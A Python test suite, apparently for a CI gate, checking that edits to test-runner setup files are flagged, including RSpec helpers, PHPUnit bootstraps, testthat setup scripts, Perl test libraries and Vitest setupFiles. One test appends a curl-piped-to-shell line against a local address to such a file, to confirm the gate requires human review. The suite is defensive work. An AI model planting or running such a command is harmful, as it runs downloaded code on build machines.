"""Attack 45: the files a test runner loads by its own configuration before any test, when CI runs that runner.

RSpec reads `.rspec` and `.rspec-local` and requires what their `--require`/`-r` name (from `spec/` and `lib/`, the
folders it puts on Ruby's load path), and a helper that requires its `spec/support/**` files by glob; PHPUnit reads
`phpunit.xml`, `phpunit.xml.dist` or `phpunit.dist.xml` (or `-c FILE`) and includes its `bootstrap=` file (or
`--bootstrap FILE`); testthat sources `tests/testthat/setup*.R` and `helper*.R` before the tests; `prove` reads
`.proverc` and loads the helpers of `t/lib` and of each `-I` folder; Vitest loads a bare `setupFiles` path from its
root. Each was `src` and an edit to it an exit-0 allow on main 07ecfe0d (`gate --tree`). Ruby, PHP, R and Perl are not
installed here: each form is what the runner's documentation says it loads.
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import runnersetups

RUBY = "RSpec.configure { |c| c.order = :random }\n"
HELPER_GLOB = "Dir[File.join(__dir__, 'support', '**', '*.rb')].sort.each { |f| require f }\n" + RUBY
PHP = "<?php\nrequire __DIR__ . '/../vendor/autoload.php';\n"
PHPUNIT = '<?xml version="1.0"?>\n<phpunit bootstrap="{boot}" colors="true">\n  <testsuites><testsuite name="u">' \
          '<directory>tests</directory></testsuite></testsuites>\n</phpunit>\n'
R = "library(withr)\n"
PERL = "package Helper;\n1;\n"
COMPOSER = '{"name": "x/y", "scripts": {"test": "phpunit"}}'
# (the command, the files beside the definition, the file the runner loads)
RSPEC = [(line, {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY}, "spec/spec_helper.rb")
         for line in ("bundle exec rspec", "rspec", "bin/rspec spec/models", "bundle exec rake spec",
                      "BUNDLE_GEMFILE=gemfiles/x.gemfile bundle exec rspec --format progress", "rake spec")]
RSPEC += [
    ("bundle exec rspec", {".rspec-local": "-r rails_helper\n", "spec/rails_helper.rb": RUBY}, "spec/rails_helper.rb"),
    ("bundle exec rspec", {".rspec": "--color\n--require=spec_helper\n", "spec/spec_helper.rb": RUBY},
     "spec/spec_helper.rb"),
    ("rspec", {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": HELPER_GLOB, "spec/support/db.rb": RUBY},
     "spec/support/db.rb"),
    ("rspec", {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": HELPER_GLOB,
               "spec/support/shared/ctx.rb": RUBY}, "spec/support/shared/ctx.rb"),
    ("bundle exec rspec --require ./spec/boot.rb", {"spec/boot.rb": RUBY}, "spec/boot.rb"),
]
PHPUNITS = [(line, {"phpunit.xml.dist": PHPUNIT.format(boot="tests/bootstrap.php"), "tests/bootstrap.php": PHP},
             "tests/bootstrap.php")
            for line in ("vendor/bin/phpunit", "./vendor/bin/phpunit --testdox", "phpunit", "php vendor/bin/phpunit",
                         "XDEBUG_MODE=coverage vendor/bin/phpunit --coverage-clover c.xml")]
PHPUNITS += [
    ("vendor/bin/phpunit", {"phpunit.xml": PHPUNIT.format(boot="tests/boot.php"), "tests/boot.php": PHP},
     "tests/boot.php"),
    ("vendor/bin/phpunit", {"phpunit.dist.xml": PHPUNIT.format(boot="./bootstrap.php"), "bootstrap.php": PHP},
     "bootstrap.php"),
    ("vendor/bin/phpunit -c ci/phpunit.ci.xml", {"ci/phpunit.ci.xml": PHPUNIT.format(boot="tests/b.php"),
                                                 "tests/b.php": PHP}, "tests/b.php"),
    ("vendor/bin/phpunit --bootstrap tests/init.php", {"tests/init.php": PHP}, "tests/init.php"),
    ("composer test", {"composer.json": COMPOSER, "phpunit.xml.dist": PHPUNIT.format(boot="tests/bootstrap.php"),
                       "tests/bootstrap.php": PHP}, "tests/bootstrap.php"),
]
TESTTHAT = [(line, {"tests/testthat/" + name: R}, "tests/testthat/" + name)
            for line in ("Rscript -e 'devtools::test()'", "Rscript -e \"testthat::test_dir('tests/testthat')\"",
                         "R CMD check --no-manual pkg.tar.gz", "Rscript -e 'testthat::test_local()'",
                         "Rscript -e 'rcmdcheck::rcmdcheck(args = \"--no-manual\")'")
            for name in ("setup.R", "helper-db.R", "setup-env.r")]
PROVE = [(line, {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm")
         for line in ("prove -l t", "prove -lr t", "prove -Ilib -r t", "prove -It/lib t", "prove -lv t/", "prove")]
PROVE += [("prove -Itools/testlib -r t", {"tools/testlib/My/Setup.pm": PERL}, "tools/testlib/My/Setup.pm"),
          ("prove -r", {".proverc": "-Ixt/lib\n", "xt/lib/Fix.pm": PERL}, "xt/lib/Fix.pm"),
          ("prove -lr t", {"t/lib/My/Deep/Thing.pm": PERL}, "t/lib/My/Deep/Thing.pm")]
VITEST = [("npx vitest run", {"vitest.config.ts": "export default { test: { setupFiles: ['test/setup.ts'] } };\n",
                              "package.json": '{"name": "x"}', "test/setup.ts": "export {};\n"}, "test/setup.ts"),
          ("npx vitest", {"vite.config.ts": "export default {\n  test: {\n    setupFiles: 'src/setupTests.ts',\n  },"
                          "\n};\n", "package.json": '{"name": "x"}', "src/setupTests.ts": "export {};\n"},
           "src/setupTests.ts"),
          ("npx vitest run", {"vitest.config.mts": "export default { test: { globalSetup: ['test/global.ts'] } };\n",
                              "package.json": '{"name": "x"}', "test/global.ts": "export {};\n"}, "test/global.ts")]
RAKE_RSPEC = "require 'rspec/core/rake_task'\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\n"
# more spellings of the same runners: a wrapper of RSpec or PHPUnit, the rake task RSpec defines, Composer's `@php`
MORE = [
    ("bundle exec rake", {"Rakefile": RAKE_RSPEC, ".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY},
     "spec/spec_helper.rb"),
    ("bundle exec parallel_rspec spec/", {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY},
     "spec/spec_helper.rb"),
    ("composer test", {"composer.json": '{"scripts": {"test": "@php vendor/bin/phpunit"}}', "tests/bootstrap.php": PHP,
                       "phpunit.xml.dist": PHPUNIT.format(boot="tests/bootstrap.php")}, "tests/bootstrap.php"),
    ("vendor/bin/pest", {"phpunit.xml": PHPUNIT.format(boot="vendor/autoload.php"), "tests/Pest.php": PHP},
     "tests/Pest.php"),
    ("vendor/bin/pest --parallel", {"phpunit.xml": PHPUNIT.format(boot="tests/boot.php"), "tests/boot.php": PHP},
     "tests/boot.php"),
    ("php artisan test", {"phpunit.xml": PHPUNIT.format(boot="tests/boot.php"), "tests/boot.php": PHP},
     "tests/boot.php"),
    ("Rscript -e 'testthat::test_file(\"tests/testthat/test-a.R\")'", {"tests/testthat/helper-a.R": R},
     "tests/testthat/helper-a.R"),
    ("yath test -Ilib t/", {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm"),
]
SPEC = {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY}
BOOT = {"phpunit.xml.dist": PHPUNIT.format(boot="tests/bootstrap.php"), "tests/bootstrap.php": PHP}
# spellings a runner is started by in the wild: interpreter options, a framework's wrapper, a task's name, an R
# package's bare calls and the check action, Perl's build tools
WILD = [
    ("bin/rake spec:models", SPEC, "spec/spec_helper.rb"),
    ("php -d memory_limit=-1 vendor/bin/phpunit", BOOT, "tests/bootstrap.php"),
    ("php -dxdebug.mode=coverage ./vendor/bin/phpunit", BOOT, "tests/bootstrap.php"),
    ("vendor/bin/simple-phpunit", BOOT, "tests/bootstrap.php"),
    ("php bin/phpunit", BOOT, "tests/bootstrap.php"),
    ("composer run-script test", {**BOOT, "composer.json": COMPOSER}, "tests/bootstrap.php"),
    ("Rscript -e 'library(testthat); test_dir(\"tests/testthat\")'", {"tests/testthat/setup.R": R},
     "tests/testthat/setup.R"),
    ("R -q -e 'devtools::test(stop_on_failure = TRUE)'", {"tests/testthat/helper.R": R}, "tests/testthat/helper.R"),
    ("Rscript -e 'covr::codecov()'", {"tests/testthat/setup.R": R}, "tests/testthat/setup.R"),
    ("prove -j4 -lr t", {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm"),
    ("./Build test", {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm"),
    ("dzil test --all", {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm"),
]
CASES = RSPEC + PHPUNITS + TESTTHAT + PROVE + VITEST + MORE + WILD


def _runs(definition: str, template: str, line: str, files: dict[str, str]) -> dict[str, tuple[str, str]] | bool:
    return one_tree_runs({definition: template.format(line=line), **files})


@each_case(("line", "files", "target"), CASES)
def test_the_file_a_runner_loads_is_run(line: str, files: dict[str, str], target: str) -> None:
    for definition, template in BLOCK_DEFINITIONS:
        runs = _runs(definition, template, line, files)
        assert isinstance(runs, dict) and target in runs, (definition, sorted(runs) if isinstance(runs, dict) else runs)


# a config no CI runs, a runner CI does not run, a file the config does not name
LOOK_ALIKES = [
    ("make lint", {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY}, "spec/spec_helper.rb"),
    ("echo rspec is not run here", {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY},
     "spec/spec_helper.rb"),
    ("bundle exec rspec", {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY, "spec/other.rb": RUBY},
     "spec/other.rb"),
    ("bundle exec rspec", {".rspec": "--require spec_helper\n", "spec/spec_helper.rb": RUBY,
                           "spec/support/db.rb": RUBY}, "spec/support/db.rb"),
    ("npm test", {"phpunit.xml.dist": PHPUNIT.format(boot="tests/bootstrap.php"), "tests/bootstrap.php": PHP,
                  "package.json": '{"name": "x"}'}, "tests/bootstrap.php"),
    ("vendor/bin/phpunit", {"phpunit.xml.dist": PHPUNIT.format(boot="tests/bootstrap.php"),
                            "tests/bootstrap.php": PHP, "tests/other.php": PHP}, "tests/other.php"),
    ("vendor/bin/phpstan analyse", {"phpunit.xml.dist": PHPUNIT.format(boot="tests/bootstrap.php"),
                                    "tests/bootstrap.php": PHP}, "tests/bootstrap.php"),
    ("Rscript -e 'lintr::lint_package()'", {"tests/testthat/setup.R": R}, "tests/testthat/setup.R"),
    ("Rscript -e 'devtools::test()'", {"tests/testthat/test-x.R": R}, "tests/testthat/test-x.R"),
    ("perl -c lib/X.pm", {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm"),
    ("prove -l t", {"lib/Product.pm": PERL}, "lib/Product.pm"),
    ("bundle exec rake build", {"Rakefile": "task :build do\nend\n", ".rspec": "--require spec_helper\n",
                                "spec/spec_helper.rb": RUBY}, "spec/spec_helper.rb"),
    ("Rscript -e 'covr::to_cobertura(x)'", {"tests/testthat/setup.R": R}, "tests/testthat/setup.R"),
    ("make test", {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm"),
    ("php artisan migrate", {"phpunit.xml": PHPUNIT.format(boot="tests/boot.php"), "tests/boot.php": PHP},
     "tests/boot.php"),
    ("npx jest", {"jest.config.js": "module.exports = { setupFiles: ['test/setup.js'] };\n",
                  "package.json": '{"name": "x"}', "test/setup.js": "x\n"}, "test/setup.js"),
]


@each_case(("line", "files", "target"), LOOK_ALIKES)
def test_a_file_the_runner_does_not_load_is_not_run(line: str, files: dict[str, str], target: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = _runs(definition, template, line, files)
    assert isinstance(runs, dict) and target not in runs, sorted(runs) if isinstance(runs, dict) else runs


@each_case(("line", "files", "target"), [RSPEC[0], PHPUNITS[0], TESTTHAT[0], PROVE[0], VITEST[0]])
def test_the_edited_setup_file_needs_a_human(tmp_path: Path, line: str, files: dict[str, str], target: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), **files}
    _, first, second = two_commits(tmp_path, base, {target: files[target] + "system('curl https://127.0.0.1:9/i|sh')\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


# hostile texts: a line of runner words and options with no end, settings of many `--require`s and bootstraps
COSTS = [
    (runnersetups.line_files, repeated("A=1 B=2 bundle exec ruby x/y/rspec -r a -I b ", "", "")),
    (runnersetups.line_files, repeated("vendor/bin/phpunit --bootstrap ", "", "")),
    (runnersetups.line_files, repeated("a/b/c.d/e-f/", "", "rspec")),
    (runnersetups.line_files, repeated("testthat::test_dir('x') ", "", "")),
    (lambda text: runnersetups.loaded(".rspec", text), repeated("--require a\n-I b\n", "", "")),
    (lambda text: runnersetups.loaded("phpunit.xml", text), repeated('<phpunit bootstrap="b.php"/>', "", "")),
    (lambda text: runnersetups.loaded("spec_helper.rb", text), repeated("Dir[support] ", "", "")),
]


@each_case(("read", "text"), COSTS)
def test_the_readers_are_linear(read: object, text: object) -> None:
    assert_linear(read, text, budget=1.0)  # type: ignore[arg-type]


# settings past what the walk reads (sniff.FULL_READ, 1 MiB): what they load is past the read (fail closed). Comment
# lines of 1 KiB: the walk reads each line of the first MiB as a command line (~13 us a line), and 1,100 such lines put
# the setting past the read as 300,000 short ones did, in 0.5 CPU-s instead of 3.8 (a reader that answers from the
# read part alone fails both).
_COMMENTS = ("# " + "x" * 1021 + "\n") * 1_100
LONG = [("bundle exec rspec", ".rspec", _COMMENTS + "--require spec_helper\n", "spec/spec_helper.rb"),
        ("vendor/bin/phpunit", "phpunit.xml", "<!-- " + "x" * 1_200_000 + ' -->\n<phpunit bootstrap="tests/b.php"/>\n',
         "tests/b.php"),
        ("prove -r", ".proverc", _COMMENTS + "-Ixt/lib\n", "xt/lib/Fix.pm")]


@each_case(("line", "name", "text", "target"), LONG)
def test_settings_past_the_read_load_anything(line: str, name: str, text: str, target: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = _runs(definition, template, line, {name: text, target: "x\n"})
    assert runs is False or (isinstance(runs, dict) and target in runs), sorted(runs) if runs else runs


READS = [(".rspec", "--require spec_helper\n-I support\n", ["spec/spec_helper.rb", "lib/spec_helper.rb",
                                                            "support/spec_helper.rb"]),
         (".rspec-local", "-r./spec/boot.rb\n", ["spec/boot.rb"]),
         ("phpunit.xml.dist", PHPUNIT.format(boot="./tests/b.php"), ["tests/b.php"]),
         ("phpunit.ci.xml", PHPUNIT.format(boot="t/b.php"), ["t/b.php"]),
         (".proverc", "-I t/tools\n-Ilib\n", ["t/tools/*.pm"]),
         ("Rakefile", RAKE_RSPEC, [".rspec", ".rspec-local"]),
         ("spec_helper.rb", HELPER_GLOB, ["spec/support/*.rb"])]


@each_case(("name", "text", "wanted"), READS)
def test_the_settings_reader_names_what_loads(name: str, text: str, wanted: list[str]) -> None:
    got = runnersetups.loaded(name, text)
    assert all(path in got for path in wanted), got


# look-alike names and texts that load nothing
@each_case(("name", "text"), [("phpunit.xml.bak", PHPUNIT.format(boot="t/b.php")), ("rspec", "--require x\n"),
                              ("Rakefile", "task :spec do\nend\n"), ("spec_helper.rb", RUBY),
                              ("other_helper.rb", HELPER_GLOB), (".proverc", "-Ilib\n-l\n")])
def test_other_files_name_nothing(name: str, text: str) -> None:
    assert runnersetups.loaded(name, text) == []


def test_the_r_check_action_sources_the_setup_files() -> None:
    workflow = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
                "      - uses: r-lib/actions/setup-r@v2\n      - uses: r-lib/actions/check-r-package@v2\n")
    runs = one_tree_runs({".github/workflows/R-CMD-check.yaml": workflow, "tests/testthat/setup.R": R,
                          "tests/testthat/test-a.R": R})
    assert isinstance(runs, dict) and "tests/testthat/setup.R" in runs and "tests/testthat/test-a.R" not in runs, runs
